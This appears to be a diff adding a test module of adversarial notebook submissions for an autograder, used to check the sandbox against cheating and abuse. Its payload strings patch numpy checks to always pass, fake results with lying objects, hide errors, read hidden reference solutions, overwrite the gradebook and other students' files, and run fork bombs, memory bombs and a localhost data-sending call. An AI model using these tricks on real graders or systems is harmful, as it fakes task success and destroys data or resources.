@@ -1,0 +1,169 @@
+"""Adversarial submissions of notebook 05, each a real notebook built from its solution.
+
+Each attack is the solution with some cells changed. ``WRONG_AFFINE`` is a real mistake
+(Affine.backward without the transpose): an honest submission with it earns 10 of 14 points,
+so a cheat built on it must earn exactly that too, never the 4 points it did not earn.
+Harmful attacks start from the correct solution and must not change its full score.
+"""
+
+import nbformat
+
+from autograder import SOURCE_DIR
+
+NAME = "05_affine_and_softmax"
+SOURCE = SOURCE_DIR / NAME / f"{NAME}.ipynb"
+WRONG = ("dx = dout @ self.W.T", "dx = np.dot(dout, self.W)")
+
+
+def load():
+    return nbformat.read(SOURCE, as_version=4)
+
+
+def cell(nb, grade_id):
+    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
+
+
+def with_wrong_affine(nb):
+    answer = cell(nb, "affine_answer")
+    assert WRONG[0] in answer.source
+    answer.source = answer.source.replace(*WRONG)
+    return nb
+
+
+def insert_after(nb, grade_id, code):
+    index = nb.cells.index(cell(nb, grade_id))
+    nb.cells.insert(index + 1, nbformat.v4.new_code_cell(code))
+    return nb
+
+
+def append(nb, code):
+    nb.cells.append(nbformat.v4.new_code_cell(code))
+    return nb
+
+
+PATCH_CHECKS = """
+import numpy as np
+np.allclose = lambda *a, **k: True
+np.isclose = lambda a, b, *r, **k: np.ones(np.shape(a), dtype=bool)
+np.array_equal = lambda *a, **k: True
+np.testing.assert_allclose = lambda *a, **k: None
+"""
+
+LYING_OBJECTS = """
+class Liar:
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __array__(self, dtype=None, copy=None): return np.zeros((1, 1))
+    def __float__(self): return 0.0
+    def __len__(self): return 0
+    def __getattr__(self, name): return self
+    def __call__(self, *a, **k): return self
+
+class Affine:
+    def __init__(self, W, b):
+        self.W, self.b = W, b
+        self.dW = self.db = Liar()
+    def forward(self, x): return Liar()
+    def backward(self, dout): return Liar()
+"""
+
+HIDE_ERRORS = """
+import sys
+from IPython import get_ipython
+get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
+sys.excepthook = lambda *args: None
+"""
+
+REPLACE_BUILTINS = """
+import builtins
+class Nothing(BaseException):
+    pass
+builtins.AssertionError = Nothing
+builtins.Exception = Nothing
+"""
+
+READ_REFERENCE = """
+stolen = None
+try:
+    from solutions import Affine as stolen
+except Exception:
+    pass
+import glob, os
+for pattern in ["{repo}/solutions/*.py", "{repo}/autograder/hidden/*.py",
+                "../../../source/*/*.ipynb", "{repo}/autograder/source/*/*.ipynb"]:
+    for path in glob.glob(pattern):
+        try:
+            with open(path) as handle:
+                text = handle.read()
+            if "class Affine" in text and path.endswith(".py"):
+                space = {{}}
+                exec(text, space)
+                stolen = space.get("Affine", stolen)
+        except Exception:
+            pass
+if stolen is not None:
+    Affine = stolen
+with open("what_i_saw.txt", "w") as handle:
+    handle.write(repr(stolen) + repr(os.listdir("{repo}/solutions") if os.path.isdir(
+        "{repo}/solutions") else "no solutions folder"))
+"""
+
+WRITE_OUTSIDE = """
+import os
+for path in ["../../../gradebook.db", "{root}/gradebook.db"]:
+    try:
+        with open(path, "wb") as handle:
+            handle.write(b"corrupted")
+    except Exception as error:
+        print("refused:", path, type(error).__name__)
+for path in ["../../honest/{name}/{name}.ipynb", "{root}/submitted/honest/{name}/{name}.ipynb",
+             "{root}/feedback/honest/{name}/{name}.html", "{root}/autograded/honest/planted.txt"]:
+    try:
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "w") as handle:
+            handle.write("overwritten by another student")
+    except Exception as error:
+        print("refused:", path, type(error).__name__)
+"""
+
+INFINITE_LOOP_FORWARD = ("def forward(self, x):",
+                         "def forward(self, x):\n        while True:\n            pass")
+
+MEMORY_BOMB = """
+import numpy as np
+try:
+    huge = np.ones(40_000_000_000, dtype=np.uint8)
+except MemoryError:
+    print("a 40 GB array was refused")
+hoard = []
+while True:
+    hoard.append(np.ones(100_000_000))
+"""
+
+FORK_BOMB = """
+import os
+children = 0
+while children < 100_000:
+    pid = os.fork()
+    if pid == 0:
+        while True:
+            os.fork()
+    children += 1
+"""
+
+FLOOD_OUTPUT = """
+line = "x" * 1_000_000
+for _ in range(1_000):
+    print(line)
+"""
+
+FLOOD_SOME_OUTPUT = """
+line = "y" * 100_000
+for _ in range(200):
+    print(line)
+"""
+
+NETWORK = """
+import urllib.request
+urllib.request.urlopen("http://127.0.0.1:{port}/stolen?answers=1", timeout=5).read()
+"""
